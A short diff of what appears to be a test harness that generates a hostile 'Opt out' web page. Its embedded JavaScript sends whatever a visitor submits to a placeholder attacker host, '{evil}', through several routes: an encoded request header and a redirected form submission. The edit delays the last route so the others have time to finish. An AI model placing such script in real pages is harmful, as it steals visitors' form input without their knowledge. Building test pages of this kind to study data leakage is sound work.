@@ -213,7 +213,8 @@ document.getElementById('optout-form').addEventListener('submit', (ev) => {{
     () => fetch('{evil}/header', {{headers: {{'X-Visitor': btoa(unescape(encodeURIComponent(text)))}}}}),
   ];
   for (const t of tries) {{ try {{ t(); }} catch (e) {{}} }}
-  setTimeout(() => {{ form.action = '{evil}/form'; form.submit(); }}, 300);
+  // last, once the other roads had time to leave (a navigation cancels what is in flight)
+  setTimeout(() => {{ form.action = '{evil}/form'; form.submit(); }}, 1500);
 }});
 """
         return self.page("Opt out", self._form("/optout"), script=script)
